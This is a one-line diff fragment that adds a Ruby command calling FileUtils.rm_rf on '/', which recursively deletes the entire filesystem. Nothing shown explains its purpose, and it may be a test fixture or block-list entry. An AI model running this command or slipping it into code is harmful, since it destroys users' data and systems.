@@ -1,0 +1,1 @@
+ruby -e 'FileUtils.rm_rf("/")'
